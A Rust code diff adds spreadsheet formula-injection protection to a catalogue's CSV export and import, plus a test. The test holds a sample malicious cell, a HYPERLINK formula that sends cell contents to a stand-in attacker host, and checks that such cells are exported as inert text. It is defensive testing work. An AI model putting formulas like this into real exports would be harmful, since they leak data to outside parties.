@@ -4,12 +4,14 @@
 //! `translation`, then the fields) and `body`, the Markdown after the front matter. In JSON a
 //! record is an object and the file an array of records. In CSV the first line names the
 //! columns; a text is written as it is, and a list or a range as its JSON
-//! (`["decide","plan"]`, `{"min":4,"max":30}`). An export can be imported back unchanged.
+//! (`["decide","plan"]`, `{"min":4,"max":30}`); a cell a spreadsheet would run as a formula is
+//! written as text (`crate::spreadsheet`). An export can be imported back unchanged.
 
 use serde_json::{Map, Value};
 
 use crate::catalogue::form::{FieldKind, Form};
 use crate::catalogue::sheet::{FrontMatter, HEADER_KEYS, Sheet};
+use crate::spreadsheet::{defuse, restore};
 
 /// Most records in one import: a bound on the work of one request.
 pub const MAX_RECORDS: usize = 2_000;
@@ -74,6 +76,7 @@ pub fn to_csv(form: &Form, sheets: &[(String, Sheet)]) -> Result<String, csv::Er
                 "body" => sheet.body.clone(),
                 key => cell(sheet.front.get(key)),
             })
+            .map(|text| defuse(&text).into_owned())
             .collect();
         writer.write_record(&row)?;
     }
@@ -131,7 +134,7 @@ pub fn from_csv(form: &Form, text: &str) -> Result<Vec<Record>, FileError> {
         }
         let row = row.map_err(|e| FileError("import-bad-csv", e.to_string()))?;
         let mut object = Map::new();
-        for (key, cell) in headers.iter().zip(row.iter()) {
+        for (key, cell) in headers.iter().zip(row.iter().map(restore)) {
             if cell.is_empty() {
                 continue;
             }
@@ -182,6 +185,32 @@ mod tests {
             assert_eq!(records[0].front["steps"], sheet.front["steps"]);
             assert_eq!(records[0].front["page"], "World Café (fr)");
         }
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_exported_as_text_and_imported_back_whole() {
+        let form = Form::parse(include_str!("../../catalogue/forms/method.yaml")).unwrap();
+        let mut sheet = parse(include_str!("../../catalogue/methods/fr/world-cafe.md"))
+            .unwrap()
+            .unwrap();
+        let formula = "=HYPERLINK(\"http://attacker.example/\"&A1)";
+        sheet
+            .front
+            .insert("summary".into(), Value::String(formula.into()));
+        sheet.body = "- first step\n- second step\n".into();
+        let sheets = vec![("@Sneaky".to_owned(), sheet.clone())];
+        let csv = to_csv(&form, &sheets).unwrap();
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        for cell in reader.records().next().unwrap().unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a cell a spreadsheet would run: {cell}"
+            );
+        }
+        let back = from_csv(&form, &csv).unwrap();
+        assert_eq!(back[0].front["summary"], formula);
+        assert_eq!(back[0].front["page"], "@Sneaky");
+        assert_eq!(back[0].body, sheet.body);
     }
 
     #[test]
